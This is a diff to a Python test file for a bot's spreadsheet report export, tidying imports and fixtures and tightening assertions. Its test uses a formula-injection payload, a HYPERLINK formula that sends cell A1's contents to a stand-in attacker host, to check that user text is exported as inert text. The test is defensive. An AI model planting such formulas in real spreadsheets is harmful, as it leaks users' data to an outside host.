@@ -12,18 +12,14 @@ from openpyxl import load_workbook
 
 from bot import logs
 from models import Request, SurveyResponse
-from tests.conftest import TEST_CATALOG
-from tests.journey import VALID_NID, fill_permit_form, fill_profile, open_service
-from tests.test_reports import data  # noqa: F401  (the fixed data set)
-from tests.test_staff import FAST, make_world
-from tests.test_survey import FAST as SURVEY_FAST
+from tests.factories import FAST, TEST_CATALOG, VALID_NID, fill_permit_form, fill_profile, make_world, open_service
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 @pytest.fixture
-async def reports_desk(make_desk, data):  # noqa: F811
-    return await make_desk(catalog={"dir": str(TEST_CATALOG)}, outbox=SURVEY_FAST)
+async def reports_desk(make_desk, report_data):
+    return await make_desk(catalog={"dir": str(TEST_CATALOG)}, outbox=FAST)
 
 
 async def test_export_writes_user_text_as_inert_text(reports_desk):
@@ -42,7 +38,7 @@ async def test_export_writes_user_text_as_inert_text(reports_desk):
     suggestion = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
     assert suggestion.data_type == "s" and suggestion.value == "'" + FORMULA
     assert not any(c.data_type == "f" for c in cells)
-    assert any(c.value == f"'{request.tracking_code}" or c.value == request.tracking_code for c in cells)
+    assert [c.data_type for c in cells if c.value == request.tracking_code] == ["s"]  # a code, as text
 
 
 async def test_reports_with_personal_data_only_in_a_private_chat(reports_desk):
